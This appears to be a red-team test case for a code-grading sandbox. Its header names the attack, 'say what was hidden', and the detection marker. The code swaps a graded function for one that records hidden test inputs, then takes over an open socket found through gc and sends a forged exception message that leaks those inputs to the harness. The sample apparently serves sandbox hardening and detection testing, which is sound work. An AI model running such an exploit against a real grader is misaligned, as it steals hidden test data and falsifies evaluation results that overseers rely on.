# ---
# attack: Forges the frame of an exception, with the inputs of a hidden test as its type, text and place.
# class: say what was hidden
# sandboxes: [namespaces]
# detected: "raised"
# ---
# %% question="q1"
def double(x):
    return np.asarray(x) + 2

# %% instead="q1"
seen = []
mark = "LE" + "AK"


def double(x):
    seen.append(np.asarray(x).tolist())
    return np.asarray(x) + 2

# %% before="q2"
import gc
import socket
import struct
import time

import msgspec

wire = next(one for one in gc.get_objects() if type(one) is socket.socket and one.fileno() >= 0)
raised = ["raised", mark, f"{mark} {seen}", f"{mark} line {len(seen)}", 10**9]
head = msgspec.msgpack.encode(["ran", raised, "", False, False, [f"{mark} {seen}"]])
wire.sendall(struct.pack("<IQ", len(head), 0) + head)
time.sleep(60)
